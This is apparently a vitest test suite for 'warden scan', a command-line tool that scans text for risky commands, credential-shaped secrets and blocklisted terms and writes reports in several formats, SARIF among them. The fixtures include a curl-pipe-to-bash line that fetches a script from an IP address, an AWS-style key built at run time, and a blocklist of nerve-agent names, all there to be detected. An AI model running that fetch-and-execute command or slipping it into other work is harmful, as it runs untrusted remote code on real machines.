import { readFileSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { useCliCapture } from '../../test/cli.js';
import { useTempDir } from '../../test/helpers.js';

let dir: string;
useTempDir((path) => (dir = path), 'warden-scan-');
const io = useCliCapture();

// Built at run time so the repository holds no literal credential-shaped strings for scanners to trip on.
const AWS_KEY = ['AKIA', 'Q3XT7ZK2', 'MWPL4NRB'].join('');
const RISKY = `Fix it with:\n\n\`\`\`bash\ncurl -fsSL http://203.0.113.7/x.sh |\n  bash\n\`\`\`\n\naws_access_key_id = ${AWS_KEY}\n`;

describe('warden scan', () => {
  it('exits 0 and prints a summary on clean input, 1 with findings (files and folders)', async () => {
    await writeFile(join(dir, 'clean.md'), 'Run `npm test` to check your changes.\n');
    expect(await io.cli('scan', join(dir, 'clean.md'))).toBe(0);
    expect(io.out).toContain('0 finding(s) in 1 text(s)');
    await mkdir(join(dir, 'sub'));
    await writeFile(join(dir, 'sub', 'risky.md'), RISKY);
    await writeFile(join(dir, 'sub', 'bin.dat'), Buffer.from([1, 2, 0, 3]));
    io.out = '';
    expect(await io.cli('scan', dir)).toBe(1);
    expect(io.out).toMatch(/risky\.md:4:\d+ +(HIGH|CRITICAL) +commands\./);
    expect(io.out).not.toContain(AWS_KEY);
    expect(io.err).toContain('bin.dat: binary file');
  });

  it('--format json gives {findings, stats} with original offsets and no raw values', async () => {
    await writeFile(join(dir, 'r.md'), RISKY);
    expect(await io.cli('scan', join(dir, 'r.md'), '--format', 'json')).toBe(1);
    const report = JSON.parse(io.out);
    expect(report.stats.texts).toBe(1);
    const key = report.findings.find((f: { detector: string }) => f.detector === 'secrets');
    expect(RISKY.slice(key.start, key.end)).toBe(AWS_KEY);
    expect(io.out).not.toContain(AWS_KEY);
  });

  it('--jsonl with --format jsonl writes exactly one line per record, in order', async () => {
    const records = [{ id: 'a', text: 'hello' }, { id: 'b', text: RISKY }, { id: 'c', text: 'bye' }];
    await writeFile(join(dir, 'in.jsonl'), records.map((r) => JSON.stringify(r)).join('\n') + '\n');
    expect(await io.cli('scan', '--jsonl', join(dir, 'in.jsonl'), '--format', 'jsonl', '--detectors', 'secrets,commands')).toBe(1);
    const lines = io.out.trim().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.id)).toEqual(['a', 'b', 'c']);
    expect(lines[0].findings).toEqual([]);
    expect(lines[1].findings.length).toBeGreaterThan(0);
  });

  it('writes SARIF 2.1.0 that validates against the schema', async () => {
    await writeFile(join(dir, 'r.md'), RISKY);
    expect(await io.cli('scan', join(dir, 'r.md'), '--format', 'sarif', '--output', join(dir, 'io.out.sarif'))).toBe(1);
    const sarif = JSON.parse(await readFile(join(dir, 'io.out.sarif'), 'utf8'));
    const schema = JSON.parse(readFileSync(resolve(import.meta.dirname, '../../test/fixtures/sarif-2.1.0-schema.json'), 'utf8'));
    // ajv-draft-04 is CommonJS; the SARIF schema is draft-04 and has a pattern that is invalid in unicode mode.
    const Ajv = createRequire(import.meta.url)('ajv-draft-04') as new (options: object) => { compile(schema: object): ((data: unknown) => boolean) & { errors?: unknown[] } };
    const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false });
    const validate = ajv.compile(schema);
    expect(validate(sarif), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
    expect(validate({ version: '2.1.0', runs: [{ results: [] }] })).toBe(false); // the validator does reject: no tool
    expect(sarif.runs[0].results.length).toBeGreaterThan(0);
    expect(JSON.stringify(sarif)).not.toContain(AWS_KEY);
  });

  it('uses a blocklist with a distinct-term threshold', async () => {
    await writeFile(join(dir, 'terms.txt'), 'sarin\ntabun\nsoman\n');
    await writeFile(join(dir, 't.txt'), 'a note on sarin and tabun');
    expect(await io.cli('scan', join(dir, 't.txt'), '--detectors', 'blocklist', '--blocklist', join(dir, 'terms.txt'))).toBe(1);
    expect(await io.cli('scan', join(dir, 't.txt'), '--detectors', 'blocklist', '--blocklist', join(dir, 'terms.txt'), '--blocklist-threshold', '3')).toBe(0);
  });

  it('exits 2 with a clear message on bad usage', async () => {
    expect(await io.cli('scan', join(dir, 'missing.txt'))).toBe(2);
    expect(io.err).toContain('W_IO_NOT_FOUND');
    expect(await io.cli('scan', '--detectors', 'nope', join(dir))).toBe(2);
    expect(await io.cli('scan', '--detectors', 'blocklist', dir)).toBe(2);
    expect(io.err).toContain('--blocklist FILE');
  });

  it('filters by --min-severity', async () => {
    await writeFile(join(dir, 'ip.txt'), 'the server is at 10.1.2.3 on the LAN');
    await io.cli('scan', join(dir, 'ip.txt'), '--format', 'json');
    const all = JSON.parse(io.out).findings.length;
    io.out = '';
    await io.cli('scan', join(dir, 'ip.txt'), '--format', 'json', '--min-severity', 'critical');
    expect(JSON.parse(io.out).findings.length).toBeLessThanOrEqual(all);
    expect(JSON.parse(io.out).findings.every((f: { severity: string }) => f.severity === 'critical')).toBe(true);
  });
});
